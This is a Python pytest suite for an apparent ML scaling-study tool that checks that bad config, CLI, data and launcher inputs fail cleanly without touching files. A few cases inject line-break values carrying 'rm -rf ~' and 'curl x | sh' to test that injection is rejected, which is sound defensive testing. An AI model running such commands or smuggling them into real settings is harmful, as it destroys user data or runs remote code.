"""Bad input, one table: every case gives one clear line, exits 2, and creates, submits or loses nothing.

Each case of :data:`CASES` runs a real entry point in-process (``python -m mixer_scaling.train`` as
``train.main()``, ``mixer-scaling`` as ``cli.main()``: the same code as the console scripts, without
interpreter start-up) in a folder that already holds a finished run, a results table and figures. It must

* exit with status 2;
* print one line on stderr naming the key, argument or file, the bad value and what is allowed
  (argparse's own errors: a usage block, then that line last); no traceback, nothing on stdout;
* leave the folder exactly as it was: no ``runs/``, ``outputs/``, ``multirun/``, ``wandb/`` or
  ``.sweeps`` manifest appears, no file is added, removed or changed (the existing run, table and figures
  are byte-for-byte the same).

docs/bad-input.md has a table with one row per case id (checked below), so the two
cannot drift apart.
"""

from __future__ import annotations

import hashlib
import io
import re
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import numpy as np
import pytest
from PIL import Image

from conftest import ROOT, TINY, TINY_SYNTHETIC, run_cli
from mixer_scaling import cli, train
from mixer_scaling.analysis.results import synthetic_records, to_frame, row_from_record, write_records, write_table

NOT_DATA = [o for o in TINY if o not in TINY_SYNTHETIC]
CATEGORIES = ("config", "cli", "data", "launcher", "sweep", "table")


# ---------------------------------------------------------------------------------------------
# Inputs the cases point at (made before the "before" snapshot, so they count as existing files)
# ---------------------------------------------------------------------------------------------


def _tree(root: Path, val: bool = True) -> Path:
    """A small valid ImageFolder tree: 2 classes x 2 RGB images in train/ (and val/)."""
    for split in ("train", "val") if val else ("train",):
        for c, cls in enumerate(("cat", "dog")):
            (root / split / cls).mkdir(parents=True)
            for i in range(2):
                Image.new("RGB", (40, 40), (90 * i, 60 * c, 30)).save(root / split / cls / f"{i}.png")
    return root


def tree_without_val(tmp: Path) -> None:
    _tree(tmp / "data", val=False)


def tree_with_garbage(tmp: Path) -> None:
    (_tree(tmp / "data") / "train" / "dog" / "broken.jpg").write_bytes(b"this is not a jpeg")


def tree_with_truncated_png(tmp: Path) -> None:
    buf = io.BytesIO()
    Image.fromarray(np.random.default_rng(0).integers(0, 255, (64, 64, 3), dtype=np.uint8)).save(buf, "PNG")
    (_tree(tmp / "data") / "val" / "cat" / "cut.png").write_bytes(buf.getvalue()[: len(buf.getvalue()) // 2])


def tree_with_16bit(tmp: Path) -> None:
    """A 16-bit grayscale scan: one channel of 0..65535, which PIL's RGB conversion clips to white."""
    Image.fromarray(np.full((40, 40), 40_000, dtype=np.uint16)).save(_tree(tmp / "data") / "train" / "cat" / "scan16.png")


def tree_with_float(tmp: Path) -> None:
    """A float TIFF (a depth map, say): one channel of 32-bit floats, not a picture."""
    Image.fromarray(np.full((40, 40), 0.5, dtype=np.float32)).save(_tree(tmp / "data") / "train" / "dog" / "depth.tif")


def bad_tables(tmp: Path) -> None:
    import pandas as pd

    pd.DataFrame({"model": ["mixer/b16"], "val_top1": [0.7]}).to_parquet(tmp / "cols.parquet")
    pd.DataFrame({"model": ["mixer/b16"], "top1": [0.7]}).to_csv(tmp / "cols.csv", index=False)
    (tmp / "junk.parquet").write_bytes(b"PAR1 this is not a parquet file")
    (tmp / "notes.csv").write_bytes(bytes(range(256)) * 4)  # binary noise with a .csv name


def corrupt_runs(tmp: Path) -> None:
    for name, text in (("a0", '{"status": "done", "model": "mixer/b16", "fam'), ("b1", "[1, 2, 3]"), ("c2", "")):
        (tmp / "broken_runs" / name).mkdir(parents=True)
        (tmp / "broken_runs" / name / "result.json").write_text(text)


def folder_named_parquet(tmp: Path) -> None:
    (tmp / "old.parquet").mkdir()


def _shards(tmp: Path) -> Path:
    from mixer_scaling.data.pack import pack

    pack(_tree(tmp / "src"), tmp / "data", image_size=16, shard_size=2, progress=False)
    return tmp / "data"


def shards_truncated(tmp: Path) -> None:
    shard = _shards(tmp) / "train-000001.tar"
    shard.write_bytes(shard.read_bytes()[:-700])


def shards_missing_shard(tmp: Path) -> None:
    (_shards(tmp) / "train-000000.tar").unlink()


def shards_no_index(tmp: Path) -> None:
    (_shards(tmp) / "index.json").unlink()


def shards_bad_index(tmp: Path) -> None:
    import json

    index = _shards(tmp) / "index.json"
    doc = json.loads(index.read_text())
    doc["splits"]["val"]["samples"] = 5
    index.write_text(json.dumps(doc))


def shards_packed(tmp: Path) -> None:
    _shards(tmp)


def paper_roots(tmp: Path) -> None:
    for root in ("jft", "imagenet"):
        for split in ("train", "val"):
            (tmp / root / split).mkdir(parents=True)


def user_cluster(tmp: Path) -> None:
    (tmp / "cfg" / "cluster").mkdir(parents=True)
    (tmp / "cfg" / "cluster" / "mine.yaml").write_text("name: mine\npartition: gpu\n")


def image_tree(tmp: Path) -> None:
    _tree(tmp / "data")


def empty_fewshot_table(tmp: Path) -> None:
    """A results table whose few-shot columns are all empty (the few-shot evaluation never ran)."""
    recs = synthetic_records(28, seed=3)
    for rec in recs:
        rec["metrics"].pop("fewshot", None)
    df = to_frame([row_from_record(r) for r in recs])
    df["fewshot_digits_5"] = float("nan")
    write_table(df, tmp / "noshots.parquet")


LONG = "x" * 300  # a file or folder name over the 255 bytes every Linux file system allows


@pytest.fixture
def world(tmp_path: Path) -> Path:
    return make_world(tmp_path)


def make_world(tmp_path: Path) -> Path:
    """What a user's folder already holds: a finished run, a results table (parquet and CSV), figures."""
    runs = tmp_path / "runs"
    rec = synthetic_records(1, seed=3)[0]
    write_records([rec], runs)
    (runs / rec["run_id"] / "config.yaml").write_text("seed: 0\n")
    df = to_frame([row_from_record(rec, runs / rec["run_id"])])
    write_table(df, tmp_path / "results.parquet", tmp_path / "results.csv")
    (tmp_path / "figs").mkdir()
    (tmp_path / "figs" / "pareto_compute.png").write_bytes(b"\x89PNG earlier figure")
    (tmp_path / "empty").mkdir()
    return tmp_path


def existing_run_id(tmp: Path) -> str:
    return next(p.name for p in (tmp / "runs").iterdir() if p.is_dir())


# ---------------------------------------------------------------------------------------------
# The cases
# ---------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    id: str
    category: str
    entry: str                          # "train" (python -m mixer_scaling.train) or "cli" (mixer-scaling)
    args: tuple[str, ...]               # {tmp}, {runs}, {data}, {run} are filled in
    mentions: tuple[str, ...]           # what the line must name (the key or file, the value, what is allowed)
    setup: Callable[[Path], None] | None = None
    argparse: bool = False              # argparse's own error: usage lines, then the error line last
    needs_fix: str = ""                 # a known gap in a file this suite does not own (strict xfail)


TRAIN = ("{tiny}",)  # the tiny run overrides, runs_dir={runs} and wandb.mode=offline
IMAGEFOLDER = ("{not_data}", "data=imagefolder", "data.image_size=32")
SHARDS = ("{not_data}", "data=shards", "data.image_size=32")
TIMM = (*TRAIN, "model=timm")
LAUNCH = ("sweep", "launch")
DRY = ("--executor", "local", "--dry-run")
STAGES = (*LAUNCH, "smoke_stages", "runs_dir={runs}")
PARETO = (*LAUNCH, "pareto", "runs_dir={runs}", "data.root={tmp}/jft", "fewshot.root={tmp}/imagenet")

CASES = [
    # --- config keys, through the train entry point ---------------------------------------------
    Case("config-fraction", "config", "train", (*TRAIN, "data.fraction=1.5"), ("data.fraction=1.5", "(0, 1]")),
    Case("config-line-break", "config", "train", (*TRAIN, "train.lr=1\nrm -rf ~"),
         ("invalid override", "train.lr=1", "line break", "one line")),
    Case("config-unknown-key", "config", "train", (*TRAIN, "train.lr_peak=3"),
         ("train.lr_peak", "keys under train", "warmup_steps")),
    Case("config-unknown-model", "config", "train", (*TRAIN, "model=mixer/x9"), ("model=", "mixer/x9", "mixer/b16")),
    Case("config-patch", "config", "train", (*TRAIN, "data.image_size=30"), ("data.image_size", "30", "patch")),
    Case("config-wandb-mode", "config", "train", (*TRAIN, "wandb.mode=sometimes"),
         ("wandb.mode", "sometimes", "offline")),
    Case("config-device", "config", "train", (*TRAIN, "device=tpu"), ("device='tpu'", "auto, cpu, cuda")),
    Case("config-seed", "config", "train", (*TRAIN, "seed=-1"), ("seed=-1", "[0, 2**32 - 1]")),
    Case("config-seed-too-large", "config", "train", (*TRAIN, "seed=4294967296"), ("seed=4294967296", "2**32 - 1")),
    Case("config-lr-inf", "config", "train", (*TRAIN, "train.lr=inf"), ("train.lr=inf", "finite number > 0")),
    Case("config-undeclared-key", "config", "train", (*TRAIN, "+note=hello"), ("note is not a config key", "schema")),
    Case("config-compile", "config", "train", (*TRAIN, "train.compile=sometimes"),
         ("train.compile='sometimes'", "true or false")),
    Case("config-tf32", "config", "train", (*TRAIN, "train.tf32=1"), ("train.tf32=1", "true or false")),
    Case("config-channels-last", "config", "train", (*TRAIN, "train.channels_last=on"),
         ("train.channels_last='on'", "auto, true, false")),
    Case("config-min-lr-above-lr", "config", "train", (*TRAIN, "train.min_lr=1"), ("train.min_lr=1", "[0, train.lr=")),
    Case("config-min-lr-negative", "config", "train", (*TRAIN, "train.min_lr=-1"), ("train.min_lr=-1", "[0, train.lr=")),
    Case("config-betas", "config", "train", (*TRAIN, "train.betas=[2,3]"), ("train.betas=", "[0, 1)")),
    Case("config-eval-batch-size", "config", "train", (*TRAIN, "eval.batch_size=0"), ("eval.batch_size=0", "> 0")),
    Case("config-throughput-batch-sizes-empty", "config", "train", (*TRAIN, "eval.throughput_batch_sizes=[]"),
         ("eval.throughput_batch_sizes=[]", "non-empty list")),
    Case("config-throughput-batch-sizes-negative", "config", "train", (*TRAIN, "eval.throughput_batch_sizes=[-8]"),
         ("eval.throughput_batch_sizes=[-8]", "integers > 0")),
    Case("config-throughput-repeats", "config", "train", (*TRAIN, "eval.throughput_repeats=0"),
         ("eval.throughput_repeats=0", "> 0")),
    Case("config-precision", "config", "train", (*TRAIN, "train.precision=fp16"),
         ("train.precision='fp16'", "auto, bf16, fp32")),
    Case("config-eval-cadence", "config", "train", (*TRAIN, "train.eval_every_examples=-5"),
         ("train.eval_every_examples=-5", ">= 0")),
    Case("config-nuisance", "config", "train", (*TRAIN, "data.nuisance=2"), ("data.nuisance=2", "[0, 1]")),
    Case("config-renamed-key", "config", "train", (*TRAIN, "train.eval_every=5000"),
         ("train.eval_every", "renamed", "train.eval_every_examples")),
    Case("config-type", "config", "train", (*TRAIN, "train.batch_size=abc"),
         ("train.batch_size='abc'", "integer > 0")),
    Case("config-unknown-recipe", "config", "train", (*TRAIN, "train=jft300m"), ("train=", "jft300m", "cpu, finetune")),
    Case("config-unquoted-non-ascii", "config", "train", (*IMAGEFOLDER, "data.root={tmp}/données"),
         ("invalid override", "données", "'é'", "quote the value", "data.root='")),
    Case("config-runs-dir-name-too-long", "config", "train", (*TRAIN, "runs_dir={tmp}/" + "r" * 300),
         ("runs_dir=", "300 bytes", "at most 255 bytes")),
    Case("config-runs-dir-a-file", "config", "train", (*TRAIN, "runs_dir={tmp}/results.csv/runs"),
         ("runs_dir=", "results.csv", "is a file, not a folder")),
    # --- command-line arguments of mixer-scaling ------------------------------------------------
    Case("cli-unknown-command", "cli", "cli", ("frobnicate",), ("'frobnicate'", "models", "collect"), argparse=True),
    Case("cli-unknown-flag", "cli", "cli", ("collect", "{runs}", "--frobnicate"), ("--frobnicate",), argparse=True),
    Case("cli-train-override", "cli", "cli", ("train", "data.fraction=2", "runs_dir={runs}"),
         ("data.fraction=2", "(0, 1]")),
    Case("cli-num-classes", "cli", "cli", ("models", "--num-classes", "0"), ("--num-classes=0", ">= 1")),
    Case("cli-evaluate-not-evaluation", "cli", "cli", ("evaluate", "{runs}", "train.lr=1"),
         ("'train.lr=1'", "only evaluation settings", "another run")),
    Case("cli-evaluate-bad-shots", "cli", "cli", ("evaluate", "{runs}", "fewshot.shots=[0]"),
         ("fewshot.shots=[0]", "integers >= 1")),
    Case("cli-evaluate-no-runs", "cli", "cli", ("evaluate", "{tmp}/empty"), ("empty", "holds no runs", "run directory")),
    Case("cli-dashboard-not-entity-project", "cli", "cli", ("dashboard", "meproj", "--dry-run", "{tmp}/s.json"),
         ("dashboard ENTITY/PROJECT", "'meproj'", "joined by one '/'")),
    Case("cli-dashboard-empty-group", "cli", "cli", ("dashboard", "me/proj", "--group", "", "--dry-run", "{tmp}/s.json"),
         ("--group ''", "empty")),
    Case("cli-dashboard-dry-run-folder", "cli", "cli", ("dashboard", "me/proj", "--dry-run", "{tmp}"),
         ("--dry-run", "it is a folder")),
    Case("cli-dashboard-dry-run-in-file", "cli", "cli",
         ("dashboard", "me/proj", "--dry-run", "{tmp}/results.parquet/s.json"), ("--dry-run", "is a file, not a folder")),
    Case("cli-figures-wandb-path", "cli", "cli",
         ("figures", "{tmp}/results.parquet", "-o", "{tmp}/figs", "--wandb", "a/b/c"),
         ("figures --wandb 'a/b/c'", "not ENTITY/PROJECT")),
    Case("cli-figures-paper-wandb", "cli", "cli", ("figures", "paper", "-o", "{tmp}/figs", "--wandb", "me/p"),
         ("figures paper --wandb", "give a results table")),
    Case("cli-figures-missing-table", "cli", "cli", ("figures", "{tmp}/nope.parquet", "-o", "{tmp}/figs"),
         ("nope.parquet", "results table", "runs directory", "paper")),
    Case("cli-figures-compute", "cli", "cli",
         ("figures", "{tmp}/results.parquet", "-o", "{tmp}/figs", "--compute", "joules"),
         ("--compute", "'joules'", "flops"), argparse=True),
    Case("cli-weights-not-a-run", "cli", "cli", ("weights", "no-such-run", "--runs-dir", "{runs}"),
         ("no-such-run", "not found", "run id")),
    Case("cli-weights-no-checkpoint", "cli", "cli", ("weights", "{run}", "--runs-dir", "{runs}", "-o", "{tmp}/w"),
         ("{run}", "checkpoint.pt")),
    Case("cli-launch-parallel", "cli", "cli", (*LAUNCH, "smoke", "runs_dir={runs}", "--executor", "local",
                                               "--parallel", "0"), ("--parallel=0", ">= 1")),
    Case("cli-launch-mfu", "cli", "cli", (*LAUNCH, "smoke", "runs_dir={runs}", *DRY, "--mfu", "1.5"),
         ("--mfu=1.5", "(0, 1]")),
    Case("cli-launch-parallel-type", "cli", "cli", (*LAUNCH, "smoke", "--parallel", "two"),
         ("--parallel", "'two'", "int"), argparse=True),
    Case("cli-launch-max-array-size", "cli", "cli", (*LAUNCH, "smoke", "runs_dir={runs}", *DRY,
                                                     "--max-array-size", "0"), ("--max-array-size=0", ">= 1")),
    Case("cli-launch-executor", "cli", "cli", (*LAUNCH, "smoke", "runs_dir={runs}", "--executor", "pbs"),
         ("--executor='pbs'", "slurm, local, debug")),
    Case("cli-collect-nothing", "cli", "cli", ("collect",), ("runs directory", "--wandb")),
    # --- data --------------------------------------------------------------------------------------
    Case("data-missing-root", "data", "train", (*IMAGEFOLDER, "data.root={tmp}/no/such/dir"),
         ("data.root=", "no/such/dir", "does not exist", "train/ and val/")),
    Case("data-root-unset", "data", "train", (*IMAGEFOLDER,), ("data.root", "required", "no value", "data.root=...")),
    Case("data-no-val-split", "data", "train", (*IMAGEFOLDER, "data.root={data}"), ("data.root=", "no val/ folder"),
         setup=tree_without_val),
    Case("data-unreadable-image", "data", "train", (*IMAGEFOLDER, "data.root={data}"),
         ("unreadable image", "dog/broken.jpg", "not an image file", "must be an image PIL reads"), setup=tree_with_garbage),
    Case("data-truncated-image", "data", "train", (*IMAGEFOLDER, "data.root={data}"),
         ("unreadable image", "cat/cut.png"), setup=tree_with_truncated_png),
    Case("data-16-bit-image", "data", "train", (*IMAGEFOLDER, "data.root={data}"),
         ("cat/scan16.png", "mode I;16", "1 channel of 16-bit", "3-channel RGB", "allowed modes", "RGBA"),
         setup=tree_with_16bit),
    Case("data-float-image", "data", "train", (*IMAGEFOLDER, "data.root={data}"),
         ("dog/depth.tif", "mode F", "32-bit floats", "allowed modes"), setup=tree_with_float),
    Case("data-cifar-missing", "data", "train", ("{not_data}", "data=cifar10", "data.root={tmp}/empty"),
         ("data.root=", "empty", "CIFAR-10", "data.download=true")),
    Case("data-fewshot-root", "data", "train", (*TRAIN, "fewshot.datasets=[imagefolder]"),
         ("fewshot.root", "imagefolder")),
    # --- launcher keys (sweep launch --dry-run and Hydra's multirun; no cluster is asked) ---------------
    Case("launcher-unknown-key", "launcher", "cli", (*LAUNCH, "smoke", "runs_dir={runs}", *DRY,
                                                     "hydra.launcher.partiton=gpu"),
         ("hydra.launcher.partiton", "partition, qos")),
    Case("launcher-unknown-preset", "launcher", "cli", (*LAUNCH, "smoke", "runs_dir={runs}", *DRY, "resources=huge"),
         ("resources=", "'huge'", "cpu, gpu1, gpu16")),
    Case("launcher-other-hydra-key", "launcher", "cli", (*LAUNCH, "smoke", "runs_dir={runs}", *DRY,
                                                         "hydra.sweep.dir=/x"), ("hydra.sweep.dir", "hydra.launcher")),
    Case("launcher-choice", "launcher", "cli", (*LAUNCH, "smoke", "runs_dir={runs}", *DRY, "hydra/launcher=pbs"),
         ("hydra/launcher", "--executor", "slurm, local")),
    Case("launcher-batch-split", "launcher", "cli", (*LAUNCH, "smoke", "runs_dir={runs}", *DRY,
                                                     "train.batch_size=63", "hydra.launcher.tasks_per_node=2"),
         ("train.batch_size=63", "2 tasks", "multiple of 2")),
    Case("launcher-multirun-key", "launcher", "train", ("-m", "+sweep=smoke", "runs_dir={runs}",
                                                        "hydra/launcher=slurm", "hydra.launcher.qqos=x"),
         ("hydra.launcher.qqos", "qos")),
    Case("launcher-multirun-resources", "launcher", "train", ("-m", "+sweep=smoke", "runs_dir={runs}",
                                                              "resources=gpu8"),
         ("resources=gpu8", "hydra/launcher=slurm")),
    Case("launcher-value-type", "launcher", "cli", (*LAUNCH, "smoke", "runs_dir={runs}", *DRY,
                                                    "hydra.launcher.mem_gb=lots"),
         ("hydra.launcher.mem_gb='lots'", "expected an integer")),
    Case("launcher-negative-time", "launcher", "cli", (*LAUNCH, "smoke", "runs_dir={runs}", *DRY,
                                                       "hydra.launcher.timeout_min=-5"),
         ("hydra.launcher.timeout_min=-5", "integer >= 1")),
    Case("launcher-newline", "launcher", "cli", (*LAUNCH, "smoke", "runs_dir={runs}", "--executor", "slurm",
                                                 "--dry-run", "hydra.launcher.partition='debug\nrm -rf ~'"),
         ("hydra.launcher.partition=", "line break", "sbatch script", "single line")),
    Case("launcher-multirun-newline", "launcher", "train", ("-m", "+sweep=smoke", "runs_dir={runs}",
                                                            "hydra/launcher=slurm",
                                                            "hydra.launcher.setup=['export A=1\ncurl x | sh']"),
         ("hydra.launcher.setup=", "line break", "sbatch script")),
    # --- sweep names and grids -------------------------------------------------------------------------
    Case("sweep-unknown", "sweep", "cli", (*LAUNCH, "nope", "runs_dir={runs}"),
         ("sweep 'nope'", "demo, pareto, permutation, smoke")),
    Case("sweep-unknown-status", "sweep", "cli", ("sweep", "status", "nope"), ("sweep 'nope'", "smoke")),
    Case("sweep-unknown-multirun", "sweep", "train", ("-m", "+sweep=nope", "runs_dir={runs}"),
         ("sweep=", "'nope'", "smoke")),
    Case("sweep-empty-grid", "sweep", "cli", (*LAUNCH, "smoke", "runs_dir={runs}", "seed=range(0,0)"),
         ("seed=range(0,0)", "empty")),
    Case("sweep-bad-cell", "sweep", "cli", (*LAUNCH, "smoke", "runs_dir={runs}", "data.fraction=0.5,7"),
         ("data.fraction=7", "(0, 1]")),
    Case("sweep-missing-data", "sweep", "cli", (*LAUNCH, "pareto", "runs_dir={runs}", *DRY),
         ("data.root", "required")),
    # --- results tables --------------------------------------------------------------------------------
    Case("table-collect-no-runs", "table", "cli", ("collect", "{tmp}/empty", "-o", "{tmp}/results.parquet"),
         ("no result.json", "empty", "<runs_dir>/<run_id>/result.json")),
    Case("table-collect-missing-dir", "table", "cli", ("collect", "{tmp}/nope", "-o", "{tmp}/results.parquet"),
         ("runs directory", "nope", "does not exist", "<runs_dir>/<run_id>/result.json")),
    Case("table-collect-a-file", "table", "cli", ("collect", "{tmp}/results.parquet", "-o", "{tmp}/results.parquet"),
         ("results.parquet", "is a file", "runs directory")),
    Case("table-collect-only-corrupt", "table", "cli",
         ("collect", "{tmp}/broken_runs", "-o", "{tmp}/results.parquet"),
         ("no pre-training records", "3 unreadable", "a0/result.json", "invalid JSON"), setup=corrupt_runs),
    Case("table-missing-columns", "table", "cli", ("figures", "{tmp}/cols.parquet", "-o", "{tmp}/figs"),
         ("cols.parquet", "missing columns: family, status", "needs family, model, status"), setup=bad_tables),
    Case("table-csv-missing-columns", "table", "cli", ("figures", "{tmp}/cols.csv", "-o", "{tmp}/figs"),
         ("cols.csv", "missing columns: family, status", "needs family, model, status"), setup=bad_tables),
    Case("table-not-parquet", "table", "cli", ("figures", "{tmp}/junk.parquet", "-o", "{tmp}/figs"),
         ("cannot read results table", "junk.parquet", "as parquet", ".parquet or .csv"), setup=bad_tables),
    Case("table-not-a-table", "table", "cli", ("figures", "{tmp}/notes.csv", "-o", "{tmp}/figs"),
         ("cannot read results table", "notes.csv", "as CSV", ".parquet or .csv"), setup=bad_tables),
    Case("table-bad-metric", "table", "cli", ("figures", "{tmp}/results.parquet", "-o", "{tmp}/figs",
                                              "--metric", "top5"), ("'top5'", "val_top1")),
    # --- where results are written: checked before any work -------------------------------------------
    Case("table-collect-output-suffix", "table", "cli", ("collect", "{runs}", "-o", "{tmp}/results.txt"),
         ("collect -o", "results.txt", ".parquet or .csv")),
    Case("table-collect-csv-suffix", "table", "cli", ("collect", "{runs}", "--csv", "{tmp}/copy.parquet"),
         ("collect --csv", "copy.parquet", "ending in .csv")),
    Case("table-collect-output-folder", "table", "cli", ("collect", "{runs}", "-o", "{tmp}/old.parquet"),
         ("collect -o", "old.parquet", "it is a folder", "a file path"), setup=folder_named_parquet),
    Case("table-collect-output-under-file", "table", "cli",
         ("collect", "{runs}", "-o", "{tmp}/results.parquet/x.parquet"),
         ("collect -o", "results.parquet/x.parquet", "is a file, not a folder")),
    Case("table-collect-long-name", "table", "cli", ("collect", "{runs}", "-o", f"{{tmp}}/{LONG}.parquet"),
         ("collect -o", "308 bytes long", "at most 255 bytes")),
    Case("table-collect-long-runs-dir", "table", "cli", ("collect", f"{{tmp}}/{LONG}", "-o", "{tmp}/t.parquet"),
         ("runs directory", "cannot be read", "File name too long")),
    Case("table-figures-output-file", "table", "cli", ("figures", "{tmp}/results.parquet", "-o", "{tmp}/results.csv"),
         ("figures -o", "results.csv", "it is a file, not a folder")),
    Case("table-figures-output-under-file", "table", "cli",
         ("figures", "{tmp}/results.parquet", "-o", "{tmp}/results.csv/figs"),
         ("figures -o", "results.csv/figs", "is a file, not a folder")),
    Case("table-figures-long-name", "table", "cli", ("figures", "{tmp}/results.parquet", "-o", f"{{tmp}}/{LONG}"),
         ("figures -o", "300 bytes long", "at most 255 bytes")),
    Case("table-empty-metric", "table", "cli", ("figures", "{tmp}/noshots.parquet", "-o", "{tmp}/figs",
                                                "--metric", "fewshot_digits_5"),
         ("fewshot_digits_5 has no values", "--metric", "val_top1"), setup=empty_fewshot_table),
    # --- GPU memory plan (sweep launch on GPU presets) ----------------------------------------------
    Case("launcher-memory-no-fit", "launcher", "cli", (*PARETO, "model=mixer/h14", "resources.gpu_memory_gb=4", *DRY),
         ("mixer/h14 does not fit in GPU memory", "micro-batch 1", "resources.gpu_memory_gb", "larger preset"),
         setup=paper_roots),
    Case("launcher-memory-user-plan", "launcher", "cli", (*PARETO, "model=vit/h14", "train.accum_steps=1",
                                                          "train.grad_checkpointing=false", *DRY),
         ("vit/h14 does not fit", "train.accum_steps=1 train.grad_checkpointing=false", "leave train.accum_steps"),
         setup=paper_roots),
    Case("launcher-memory-negative", "launcher", "cli", (*PARETO, "resources.gpu_memory_gb=-1", *DRY),
         ("resources.gpu_memory_gb=-1", "> 0 or null"), setup=paper_roots),
    Case("launcher-memory-text", "launcher", "cli", (*PARETO, "resources.gpu_memory_gb=lots", *DRY),
         ("resources.gpu_memory_gb='lots'", "> 0 or null"), setup=paper_roots),
    # --- studies in stages (a sweep's fine-tuning stage) ----------------------------------------------
    Case("sweep-stage-unknown-parent-key", "sweep", "cli", (*STAGES, "+stages.finetune.parents.nope=1", *DRY),
         ("stages.finetune.parents.nope", "not a key of the first stage's cells", "data.fraction")),
    Case("sweep-stage-no-grid", "sweep", "cli", (*STAGES, "~stages.finetune.grid", *DRY),
         ("stages.finetune.grid=null", "non-empty mapping")),
    Case("sweep-stage-empty-grid-list", "sweep", "cli", (*STAGES, "stages.finetune.grid={{train.lr:[]}}", *DRY),
         ("stages.finetune.grid.train.lr=[]", "non-empty list")),
    Case("sweep-stage-mixer-resolution", "sweep", "cli", (*STAGES, "+stages.finetune.grid.image_size=[40]", *DRY),
         ("image_size=40", "K times the pre-training size 32", "integer K")),
    Case("sweep-stage-unknown-stage", "sweep", "cli", (*STAGES, "+stages.extra={{}}", *DRY),
         ("stages.extra is not a stage", "finetune")),
    Case("sweep-stage-other-model", "sweep", "cli", (*STAGES, "stages.finetune.overrides=['model=vit/micro']", *DRY),
         ("model=vit/micro", "not the parent's model mixer/micro", "keeps its parent's architecture")),
    # --- the user's cluster config and mixer-scaling init -------------------------------------------
    Case("config-cluster-unknown", "config", "train", (*TRAIN, "cluster=nope"),
         ("cluster='nope' is not a known cluster config", "mixer-scaling init --cluster nope")),
    Case("config-cluster-null", "config", "train", (*TRAIN, "cluster=null"), ("cluster=null", "~cluster")),
    Case("cli-init-exists", "cli", "cli", ("init", "--cluster", "mine", "--dir", "{tmp}/cfg"),
         ("cluster/mine.yaml exists", "not overwritten"), setup=user_cluster),
    Case("cli-init-bad-name", "cli", "cli", ("init", "--cluster", "a b", "--dir", "{tmp}/cfg"),
         ("--cluster='a b'", "letters, digits")),
    Case("cli-init-dir-is-file", "cli", "cli", ("init", "--dir", "{tmp}/results.csv"),
         ("--dir", "results.csv", "not a folder")),
    # --- sharded data (mixer-scaling data pack, data=shards) ------------------------------------------
    Case("data-shards-truncated", "data", "train", (*SHARDS, "data.root={data}"),
         ("train-000001.tar", "index.json says", "truncated"), setup=shards_truncated),
    Case("data-shards-missing-shard", "data", "train", (*SHARDS, "data.root={data}"),
         ("train-000000.tar", "listed in index.json but missing"), setup=shards_missing_shard),
    Case("data-shards-no-index", "data", "train", (*SHARDS, "data.root={data}"),
         ("index.json is missing", "data pack", "interrupted"), setup=shards_no_index),
    Case("data-shards-bad-index", "data", "train", (*SHARDS, "data.root={data}"),
         ("val shards' sample counts sum to 4", "says 5"), setup=shards_bad_index),
    Case("data-shards-missing-root", "data", "train", (*SHARDS, "data.root={tmp}/no/such"),
         ("data.root=", "does not exist", "index.json")),
    Case("data-shards-bad-buffer", "config", "train", (*SHARDS, "data.root={data}", "data.shuffle_buffer=-1"),
         ("data.shuffle_buffer=-1", ">= 0"), setup=shards_packed),
    Case("cli-pack-no-src", "cli", "cli", ("data", "pack", "{tmp}/nope", "{tmp}/out"),
         ("SRC=", "nope", "does not exist", "ImageFolder")),
    Case("cli-pack-bad-shard-size", "cli", "cli", ("data", "pack", "{data}", "{tmp}/out", "--shard-size", "0"),
         ("--shard-size=0", "integer >= 1"), setup=image_tree),
    Case("cli-pack-settings-changed", "cli", "cli", ("data", "pack", "{tmp}/src", "{data}", "--image-size", "24",
                                                    "--shard-size", "2"),
         ("OUT=", "image_size=16", "image_size=24", "same settings"), setup=shards_packed),
    # --- any timm architecture (model=timm) --------------------------------------------------------
    Case("config-timm-unknown", "config", "train", (*TIMM, "model.name=convnext/convnext_atoo"),
         ("model.name='convnext/convnext_atoo'", "not a timm model", "convnext/convnext_atto")),
    Case("config-timm-family-label", "config", "train", (*TIMM, "model.family=ConvNeXt"),
         ("model.family='ConvNeXt'", "lowercase identifier")),
    Case("config-timm-builtin-label", "config", "train", (*TIMM, "model.name=vit/deit_tiny_patch16_224"),
         ("model.name='vit/deit_tiny_patch16_224'", "not a known model", "other than mixer, vit, bit")),
    Case("config-timm-family-mismatch", "config", "train", (*TIMM, "model.name=resnet/resnet18",
                                                            "model.family=convnext"),
         ("model.family='convnext'", "model.name='resnet/resnet18'", "'resnet'")),
    Case("config-timm-tag", "config", "train", (*TIMM, "model.name=resnet/resnet18.a1_in1k"),
         ("resnet/resnet18.a1_in1k", "pretrained tag", "resnet/resnet18")),
    Case("config-timm-patch", "config", "train", (*TIMM, "model.name=deit/deit_tiny_patch16_224",
                                                  "model.image_size=40"),
         ("data.image_size=40", "patch size 16", "multiples of 16")),
    Case("launcher-runs-dir-percent", "launcher", "cli", (*LAUNCH, "smoke", "runs_dir={tmp}/runs_%j", "--executor",
                                                          "slurm", "--dry-run"),
         ("runs_dir=", "runs_%j", "'%'", "SLURM", "without '%'")),
    Case("launcher-runs-dir-under-file", "launcher", "cli", (*LAUNCH, "smoke", "runs_dir={tmp}/results.csv/runs",
                                                             "--executor", "local"),
         ("runs_dir=", "results.csv", "not a folder")),
    Case("launcher-runs-dir-long-name", "launcher", "cli", (*LAUNCH, "smoke", f"runs_dir={{tmp}}/{LONG}",
                                                            "--executor", "local"),
         ("runs_dir=", "255")),
]
BY_ID = {c.id: c for c in CASES}


def fill(text: str, tmp: Path) -> list[str]:
    """One argument with its placeholders filled in (``{tiny}``/``{not_data}`` expand to several)."""
    runs = tmp / "runs"
    if text == "{tiny}":
        return [*TINY, "wandb.mode=offline", f"runs_dir={runs}"]
    if text == "{not_data}":
        return [*NOT_DATA, "wandb.mode=offline", f"runs_dir={runs}"]
    return [text.format(tmp=tmp, runs=runs, data=tmp / "data", run=existing_run_id(tmp))]


def snapshot(folder: Path) -> dict[str, str]:
    """Every path under ``folder`` with a hash of its bytes (folders: "dir")."""
    return {str(p.relative_to(folder)): "dir" if p.is_dir() else hashlib.sha1(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*"))}


def run_case(case: Case, tmp: Path, monkeypatch, capsys) -> tuple[int, str, str]:
    argv = [a for arg in case.args for a in fill(arg, tmp)]
    monkeypatch.chdir(tmp)
    if case.entry == "train":
        monkeypatch.setattr(sys, "argv", ["mixer_scaling.train", *argv])
        with pytest.raises(SystemExit) as exit_info:
            train.main()
        code = exit_info.value.code
    else:
        try:
            code = cli.main(argv)
        except SystemExit as exc:  # argparse
            code = exc.code
    captured = capsys.readouterr()
    return code, captured.out, captured.err


